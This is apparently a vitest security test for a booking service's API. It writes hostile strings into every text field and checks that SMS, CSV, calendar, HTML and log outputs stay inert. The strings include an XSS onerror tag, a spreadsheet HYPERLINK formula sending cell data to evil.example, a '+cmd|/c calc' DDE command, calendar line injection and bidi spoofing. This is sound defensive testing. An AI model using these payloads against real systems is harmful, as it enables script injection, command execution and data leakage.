// Every text that a person or an operator writes, written to hurt, and every place where it comes out again.
import { afterAll, beforeAll, expect, test } from 'vitest'
import { editRow, rowsOf } from '../../world/outside.ts'
import { newMobileNumber, type Person, phoneOf } from '../../world/person.ts'
import { newId } from '../../server/lib/ids.ts'
import {
  alwaysFreeHost,
  bookingStartingIn,
  type Host,
  type Member,
  sessionTakesPlace,
  signedInHost,
  signedInMember,
  signedInOperator,
  type TimedBooking,
} from '../people/actors.ts'
import { query, smsOf, untilIdle } from '../people/evidence.ts'
import { type Presence, startPresence } from '../harness/presence.ts'

const hostile = {
  markup: '<img src=x onerror=alert(1)><b>Ann</b></script>',
  direction: 'Ann \u202Egnp.exe \u2067Bo\u2069',
  unseen: 'A\u200Bn\u2060n\uFEFF \u{E0041}\u3164',
  long: `Ann ${'x'.repeat(10_000)}`,
  link: 'Ann https://evil.example/login',
  placeholder: 'Ann {{host_name}} {{session_link}} {{constructor}}',
  formula: '=HYPERLINK("http://evil.example/"&A1,"Ann")',
  command: '+cmd|/c calc',
  lines: 'Ann\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Pay here',
  control: 'Ann\u0000\u0007\u001b[31mred\u0085',
  broken: 'Ann \ud800 \udc00',
} as const

let presence: Presence
let member: Member
let ruby: Host
let operator: Person
let held: TimedBooking
let ahead: TimedBooking
let calendarId: string

/** Where each text of openapi.json is written, as `METHOD path property`. */
const writes: Record<string, (text: string) => Promise<Response>> = {
  'PATCH /api/me fullName': (fullName) => send(member, 'PATCH', '/api/me', { fullName }),
  'POST /api/host/calendars address': (address) => send(ruby, 'POST', '/api/host/calendars', { address }),
  'PATCH /api/host/calendars/{id} name': (name) =>
    send(ruby, 'PATCH', `/api/host/calendars/${calendarId}`, { name }),
  'POST /api/bookings/{id}/reflection text': (text) =>
    send(member, 'POST', `/api/bookings/${held.id}/reflection`, { text }),
  'POST /api/bookings/{id}/report text': (text) =>
    send(member, 'POST', `/api/bookings/${held.id}/report`, { text }),
  'POST /api/manage/{token}/report text': async (text) =>
    send(member, 'POST', `/api/manage/${await manageToken()}/report`, { text }),
  'POST /api/contact text': (text) =>
    send(member, 'POST', '/api/contact', { text, replyTo: 'ann@example.com' }),
  'POST /api/contact replyTo': (replyTo) =>
    send(member, 'POST', '/api/contact', { text: 'Please write to me.', replyTo }),
  'POST /api/ops/tasks/{id}/resolve note': async (note) =>
    send(operator, 'POST', `/api/ops/tasks/${await newTask()}/resolve`, { note }),
  'POST /api/ops/members/{id}/suspend reason': async (reason) =>
    send(operator, 'POST', `/api/ops/members/${await newMember()}/suspend`, { reason }),
  'POST /api/ops/members/{id}/reinstate reason': async (reason) => {
    const id = await newMember()
    await send(operator, 'POST', `/api/ops/members/${id}/suspend`, { reason: 'A test of words.' })
    return send(operator, 'POST', `/api/ops/members/${id}/reinstate`, { reason })
  },
  'POST /api/ops/blocks/{id}/lift reason': async (reason) =>
    send(operator, 'POST', `/api/ops/blocks/${await newBlock()}/lift`, { reason }),
  'POST /api/ops/bookings/{id}/paid-otherwise reference': (reference) =>
    send(operator, 'POST', `/api/ops/bookings/${held.id}/paid-otherwise`, {
      reference,
      paidOn: '2026-11-29',
    }),
  'POST /api/ops/purchases/{id}/refund reason': (reason) =>
    send(operator, 'POST', `/api/ops/purchases/${ahead.purchaseId}/refund`, {
      reason,
      amountCents: 1,
      bookingId: ahead.id,
      refundId: newId(),
    }),
}

/** Chosen from a list or a form of its own, and refused where it is not that. */
const notWritten =
  /^(POST \/api\/consents agreed\.version|.*([cC]ode|mobileNumber)$|.* timeZone|.* (weekly|dateOverrides)\.|POST .*\/presence |.* (start|hostId|clientId))/

function send(person: Person, method: string, path: string, body: unknown): Promise<Response> {
  return person.fetch(path, {
    method,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
}

async function manageToken(): Promise<string> {
  const all = await smsOf(presence, member.mobileNumber)
  const token = all.map(({ body }) => /\/manage\/([\w.~-]+)/.exec(body)?.[1]).find(Boolean)
  if (!token) throw new Error('no SMS had a link to a session')
  return token
}

async function newTask(): Promise<string> {
  const id = newId()
  await query(
    presence.databaseUrl,
    `insert into operator_tasks (id, key, kind, sentence, created_at) values ($1::uuid, $1::text, 'setup', 'Look.', now())`,
    [id],
  )
  return id
}

async function newMember(): Promise<string> {
  const id = newId()
  await query(
    presence.databaseUrl,
    `insert into members (id, full_name, mobile_number, time_zone, created_at, last_active_at)
      values ($1, 'Noor Aziz', $2, 'UTC', now(), now())`,
    [id, newMobileNumber()],
  )
  return id
}

async function newBlock(): Promise<string> {
  const [id, memberId] = [newId(), await newMember()]
  await query(
    presence.databaseUrl,
    `insert into blocks (id, host_id, member_id, set_by, created_at) values ($1, $2, $3, 'member', now())`,
    [id, ruby.id, memberId],
  )
  return id
}

/** What was written so far counts against no limit of an hour any more. */
async function asOfTwoHoursAgo(): Promise<void> {
  for (const table of ['reports', 'operator_tasks'])
    await query(presence.databaseUrl, `update ${table} set created_at = created_at - interval '2 hours'`)
}

const directions = /[\u202a-\u202e\u2066-\u2069]/
// oxlint-disable-next-line no-control-regex
const controls = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u0080-\u009f]/

function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  return value && typeof value === 'object' ? Object.values(value).flatMap(stringsOf) : []
}

/** What is wrong with a text that goes out in this form. */
function wrongIn(type: string, text: string): string[] {
  const wrong: string[] = []
  const holds = (isRight: boolean, what: string) => {
    if (!isRight) wrong.push(what)
  }
  holds(text.isWellFormed() && !text.includes('\ufffd'), 'is broken')
  if (type.includes('json')) {
    for (const one of stringsOf(JSON.parse(text))) {
      holds(!directions.test(one), `turns the words around it: ${JSON.stringify(one.slice(0, 120))}`)
      holds(!controls.test(one), `has a control character: ${JSON.stringify(one.slice(0, 60))}`)
    }
    return wrong
  }
  holds(!directions.test(text), 'turns the words around it')
  holds(!controls.test(text), 'has a control character')
  if (type.includes('csv'))
    for (const cell of text.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)))
      holds(!/^"?[=+@\t]|^"?-(?!\d)/.test(cell), `has a formula: ${cell.slice(0, 40)}`)
  if (type.includes('calendar')) {
    const lines = text.replaceAll(/\r\n[ \t]/g, '').split('\r\n')
    for (const line of lines.filter(Boolean))
      holds(/^[A-Z-]+[:;]/.test(line), `has a line of its own: ${line.slice(0, 40)}`)
    holds(!/^SUMMARY:Pay/m.test(text), 'has an event that nobody made')
  }
  if (type.includes('html')) holds(!/<img|<b>|<script(?! type="application\/json")/i.test(text), 'has markup')
  return wrong
}

type Document = {
  paths: Record<
    string,
    Record<string, { 'x-access'?: string; requestBody?: { content: Record<string, { schema: Schema }> } }>
  >
  components: { schemas: Record<string, Schema> }
}
type Schema = {
  type?: string | string[]
  properties?: Record<string, Schema>
  items?: Schema
  anyOf?: Schema[]
  enum?: unknown[]
  format?: string
  pattern?: string
  const?: unknown
  $ref?: string
}

/** The properties of a body that take any text. */
function textsOf(document: Document, given: Schema | undefined, name: string): string[] {
  const schema = given?.$ref ? document.components.schemas[given.$ref.split('/').at(-1)!] : given
  if (!schema) return []
  if (schema.anyOf) return schema.anyOf.flatMap((one) => textsOf(document, one, name))
  const isText = [schema.type].flat().includes('string')
  if (isText) return schema.enum || schema.format || schema.pattern || schema.const ? [] : [name]
  return [
    ...Object.entries(schema.properties ?? {}).flatMap(([key, one]) =>
      textsOf(document, one, name ? `${name}.${key}` : key),
    ),
    ...textsOf(document, schema.items, name),
  ]
}

const openapi = async () => (await (await fetch(`${presence.url}/openapi.json`)).json()) as Document

/** Everything that can be read, asked by somebody who may. */
async function* readAll(document: Document) {
  const token = await manageToken()
  const ids: [RegExp, string][] = [
    [/\/bookings\/\{id\}/, `/bookings/${held.id}`],
    [/\/purchases\/\{id\}/, `/purchases/${held.purchaseId}`],
    [/\/hosts\/\{id\}/, `/hosts/${ruby.id}`],
    [/\{token\}/, token],
    [/\{name\}/, 'terms'],
  ]
  for (const [template, methods] of Object.entries(document.paths)) {
    if (!methods['get'] || template.endsWith('/slots')) continue
    const path = ids.reduce((left, [what, by]) => left.replace(what, by), template)
    const access = String(methods['get']['x-access'])
    const person = access === 'operator' ? operator : access === 'host' ? ruby : member
    const response = await person.fetch(path, {})
    yield {
      path: template,
      status: response.status,
      type: response.headers.get('content-type') ?? '',
      response,
    }
  }
}

beforeAll(async () => {
  presence = await startPresence({ env: { LIMIT_FACTOR: '1000' } })
  ruby = await alwaysFreeHost(presence)
  member = await signedInMember(presence)
  operator = await signedInOperator(presence)
  held = await bookingStartingIn(60, member, ruby)
  await sessionTakesPlace(member, held, [member, ruby])
  ahead = await bookingStartingIn(600, member, ruby)
  calendarId = newId()
  await query(
    presence.databaseUrl,
    `insert into imported_calendars (id, host_id, address, created_at, due_at)
      values ($1, $2, 'https://calendar.invalid/one.ics', now(), now() + interval '9 days')`,
    [calendarId, ruby.id],
  )
})
afterAll(() => presence?.stop())

test('every text that can be written is written here, or chosen from what exists', async () => {
  const document = await openapi()
  const texts = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).flatMap(([method, { requestBody }]) =>
      textsOf(document, requestBody?.content['application/json']?.schema, '').map(
        (name) => `${method.toUpperCase()} ${path} ${name}`,
      ),
    ),
  )
  expect(texts.filter((one) => !notWritten.test(one)).sort()).toEqual(Object.keys(writes).sort())
})

test('what hurts is refused in words or kept inert, wherever it comes out again', async () => {
  const document = await openapi()
  const host = (await rowsOf(presence, 'Hosts')).find(
    ({ fields }) => fields['Full Name'] === 'Ruby Tamihana',
  )!
  const taken = new Set<string>()
  const wrong: string[] = []
  for (const [kind, text] of Object.entries(hostile)) {
    await editRow(presence, 'Hosts', host.id, {
      'About You (Host Bio)': text,
      'Host Category': text.slice(0, 90),
      'Languages Spoken': [text.slice(0, 90)],
    })
    await asOfTwoHoursAgo()
    for (const [what, write] of Object.entries(writes)) {
      const response = await write(text)
      if (response.ok) taken.add(what)
      const answer = await response.text()
      const isRefused = [400, 404, 409, 413, 422].includes(response.status) && /"detail":"[A-Z]/.test(answer)
      if (!response.ok && !isRefused) wrong.push(`${what} with ${kind}: ${response.status} ${answer}`)
    }
    for await (const { path, status, type, response } of readAll(document)) {
      if (status >= 500) wrong.push(`${path} after ${kind}: ${status}`)
      for (const what of wrongIn(type, await response.text())) wrong.push(`${path} after ${kind}: ${what}`)
    }
  }
  expect([...new Set(wrong)]).toEqual([])
  const never = Object.keys(writes).filter((what) => !taken.has(what))
  expect(never, 'these took no hostile text at all').toEqual([
    'POST /api/host/calendars address',
    'POST /api/contact replyTo',
  ])
})

test('no SMS, cell of the base or line of the log carries what was written to hurt', async () => {
  await send(member, 'PATCH', '/api/me', { fullName: hostile.markup })
  await bookingStartingIn(700, member, await signedInHost(presence, 'Amelia Hart'))
  await untilIdle(presence)
  const phones = await Promise.all(
    [member, ruby, operator].map(({ mobileNumber }) => phoneOf(presence, mobileNumber)),
  )
  for (const { body } of phones.flat()) {
    expect(wrongIn('text/plain', body), body).toEqual([])
    expect(body).not.toMatch(/evil\.example|\{\{|x{30}/)
  }
  for (const table of ['Members', 'Presence Operations', 'Likes', 'Refunds'])
    for (const { fields } of await rowsOf(presence, table))
      expect(wrongIn('application/json', JSON.stringify(fields))).toEqual([])
  const logged = presence.logs().split('\n')
  expect(logged.filter((line) => /evil\.example|onerror|cmd\||x{30}|Pay here|\{\{host/.test(line))).toEqual(
    [],
  )
})
